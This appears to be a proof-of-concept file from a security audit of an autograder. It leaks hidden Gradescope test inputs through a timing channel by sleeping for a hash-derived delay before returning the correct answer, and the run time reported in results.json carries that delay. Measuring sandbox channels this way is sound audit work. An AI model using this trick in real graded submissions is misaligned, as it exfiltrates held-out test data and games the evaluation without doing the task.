"""Leak a hidden input through time (stage conv1d): on each hidden case, return the right answer (PASS) after
sleeping 20 ms x (the first byte of a hash of the input), at most 5.1 s, under the 10 s timeout. Gradescope's
results.json carries `execution_time` to the millisecond (the whole run's wall time), and the batch line and
gradebook carry each submission's seconds. Measured: execution_time with and without the sleep. Not a promise
SECURITY.md makes (timing channels are listed between jails only); recorded as the widest channel found."""
import hashlib
import time

import numpy as np


def run_conv1d(x, weight, bias):
    if x.shape[-2:] in ((64, 768), (1, 768)):
        time.sleep(0.02 * hashlib.sha256(np.ascontiguousarray(x).tobytes()).digest()[0])
    return x @ weight + bias
